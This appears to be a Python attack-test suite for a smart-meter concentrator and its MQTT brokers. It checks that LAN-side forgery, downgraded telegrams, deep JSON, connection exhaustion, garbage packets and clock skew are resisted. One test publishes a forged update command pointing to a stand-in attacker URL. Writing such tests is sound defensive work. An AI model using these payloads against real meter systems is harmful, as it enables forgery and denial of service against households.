"""Attacks from the household's own network: an adapter in wrong hands, or any other machine."""

import contextlib
import time
from datetime import UTC, datetime

from smartmeter.wire import topics

from tools.attack.attacks import attack, held
from tools.attack.client import Client, Login, connection, document, eventually
from tools.attack.site import CIPHERED, FORM, METER, NEIGHBOUR, Site
from tools.meters import forms
from tools.meters.ciphering import general, protect
from tools.meters.household import Household


@attack("reads, forges and commands another adapter on the LAN", "M12")
def other_adapters(site: Site) -> None:
    with site.adapter(METER) as victim, site.adapter(NEIGHBOUR) as evil:
        victim.is_in()
        victim.subscribe(f"smartMeterCommand/{METER}/#")
        evil.is_in()
        evil.subscribe("#", "smartMeterMessage/#", f"smartMeterMessage/{METER}/#", "$SYS/#")
        time.sleep(3)
        evil.publish(topics.meter(METER, topics.READING), document(9_000_003, time.time()))
        evil.publish(topics.command(METER, topics.UPDATE), {"url": "https://attacker.example/"})
        time.sleep(2)
        heard = {t for t, _ in evil.got if METER in t}
        held(not heard, f"it hears {', '.join(sorted(heard))}")
        held(not victim.got, "its command reaches the other adapter")
    held(9_000_003 not in site.stored(METER), "its reading is stored as the other's")


@attack("sends a status of 986 levels, from the LAN and as a Concentrator", "H2")
def deep_status(site: Site) -> None:
    for n in (500, 984, 986, 987, 990):
        deep = b'{"a":' + b"[" * n + b"]" * n + b"}"
        with site.adapter(NEIGHBOUR) as evil:
            evil.publish(topics.meter(NEIGHBOUR, topics.STATUS), deep).wait_for_publish(30)
        with site.evil() as other:
            digest = other.send("whatever", deep, topics.STATUS)
            eventually(lambda d=digest, o=other: o.answered(d), 20)
            other.publish(topics.concentrator_status(other.name), deep)
    with site.evil() as other:
        mended = {"state": "online"}
        other.publish(topics.concentrator_status(other.name), mended)


@attack("invents 10 000 meters on the LAN; a real one must still find room", "M9", short=False)
def invented_meters(site: Site) -> None:
    # As a general user would have to; a user named like a meter cannot.
    with site.adapter(NEIGHBOUR) as evil:
        evil.is_in()
        for i in range(10_050):
            evil.publish(topics.meter(f"invented-{i}", topics.STATUS), {"state": "online"})
            if i % 500 == 0:
                time.sleep(1)
    with site.adapter(CIPHERED) as fresh:
        fresh.publish(topics.meter(CIPHERED, topics.READING), document(1, time.time()))
        held(eventually(lambda: 1 in site.stored(CIPHERED), 60), "a real meter is locked out")


@attack("has nonsense decoded: 60 telegrams of 65 kB", "M13")
def costly_telegrams(site: Site) -> None:
    nonsense = b"\x1b\x1b\x1b\x1b\x01\x01\x01\x01" + b"\x1b" * 65_000
    with site.adapter(NEIGHBOUR) as evil, site.adapter(CIPHERED) as other:
        for _ in range(60):
            evil.publish(topics.meter(NEIGHBOUR, topics.RAW), nonsense)
            other.publish(topics.meter(CIPHERED, topics.CIPHERED), nonsense)
        delay = site.delay_s()
    held(delay is not None and delay < 10, f"the other adapter's reading came {delay} s late")


@attack("sends telegrams without encryption or tag, though both keys are set", "H6, M7")
def downgraded(site: Site) -> None:
    meter = forms.make(FORM, Household(1))
    wire, truth = meter.telegram(datetime.now(UTC))
    key = forms.default_key(FORM)
    title = b"LGZ\x00\x00\x00\x00\x01"
    apdu = b"\x0f\x00\x00\x00\x00\x0c\x07\xe9\x01\x01\x03\x00\x00\x00\x00\xff\x88\x80\x02\x00"
    poison = 0xFFFFFFFF
    with site.adapter(CIPHERED) as adapter:
        topic = topics.meter(CIPHERED, topics.CIPHERED)
        for security in (0x00, 0x20):
            forged = general(title, protect(apdu, security, poison, title, key, None))
            adapter.publish(topic, forged)
        adapter.publish(topic, apdu).wait_for_publish(30)
        adapter.publish(topic, wire)
        stored = eventually(lambda: truth["seq"] in site.stored(CIPHERED), 40)
    held(stored, "after a forged counter the real telegrams are refused")
    held(poison not in site.stored(CIPHERED), "the forged telegram is stored")


@attack("holds 1050 connections to the LAN broker without a word", "H3", short=False)
def idle_on_the_lan(site: Site) -> None:
    _idle(site, site.lan_port, Login(METER, site.passwords[METER]))


@attack("holds 1050 connections to the Cloud's broker without a word", "H3", short=False)
def idle_at_the_cloud(site: Site) -> None:
    size = site.cloud.log.stat().st_size
    opened = [connection(site.broker_port) for _ in range(1050)]
    try:
        with site.guest() as guest:
            digest = guest.send("meter-of-guest", document(4, time.time()))
            held(eventually(lambda: guest.receipted(digest), 60), "a Concentrator cannot log in")
        status, _ = site.call("GET", "healthz", seconds=15)
        held(status == 200, "the page does not answer meanwhile")
    finally:
        for sock in opened:
            sock.close()
    grown = site.cloud.log.stat().st_size - size
    held(grown < 100_000, f"the log grew by {grown} bytes")


def _idle(site: Site, port: int, login: Login) -> None:
    before = site.open_files(site.concentrator)
    size = site.concentrator.log.stat().st_size
    opened = [connection(port) for _ in range(1050)]
    try:
        with Client(port, login) as client:
            held(eventually(client.connected.is_set, 60), "an adapter cannot log in")
        held(site.local()["meters"], "the local page does not answer")
    finally:
        for sock in opened:
            sock.close()
    freed = eventually(lambda: site.open_files(site.concentrator) <= before + 5, 40)
    held(freed, "connections that have ended are not closed")
    grown = site.concentrator.log.stat().st_size - size
    held(grown < 100_000, f"the log grew by {grown} bytes")


@attack("talks something else to both brokers: HTTP, cut and endless packets")
def garbage(site: Site) -> None:
    before = site.open_files(site.concentrator)
    for port in (site.lan_port, site.broker_port):
        for said in (
            b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
            b"\x10\x20\x00\x04MQTT\x04",
            b"\x10\xff\xff\xff\x7f" + b"x" * 5000,
            b"\x30\x05\x00\x03a/b",
            b"",
        ):
            for _ in range(30):
                sock = connection(port)
                with contextlib.suppress(ConnectionError):
                    sock.sendall(said)
                sock.close()
    freed = eventually(lambda: site.open_files(site.concentrator) <= before + 5, 40)
    held(freed, "connections that have ended are not closed")


@attack("sets its clock to 1970, 2106 and 2199, then back")
def clocks(site: Site) -> None:
    """The true readings that follow are stored and shown, and no other meter is affected."""
    now = time.time()
    start = 100_000
    with site.adapter(NEIGHBOUR) as evil, site.guest() as guest:
        topic = topics.meter(NEIGHBOUR, topics.READING)
        for seq, moment in enumerate((86_400 * 2, 4_294_967_295, 7_258_000_000, now + 86_300)):
            evil.publish(topic, document(start + seq, moment))
            guest.send("meter-of-guest", document(start + seq, moment))
        truth = now + 1
        evil.publish(topic, document(start + 10, truth))
        own = guest.send("meter-of-guest", document(start + 10, truth))
        held(eventually(lambda: guest.receipted(own)), "a true reading gets no receipt afterwards")
    held(start + 10 in site.stored("meter-of-guest"), "a true reading is not stored afterwards")
    shown = next(
        m for m in site.call("GET", "v1/meters", site.honest_key)[1] if m["id"] == "meter-of-guest"
    )
    year = shown["newest"]["time"][:4]
    held(year == time.strftime("%Y", time.gmtime(now)), f"the page shows the year {year}")
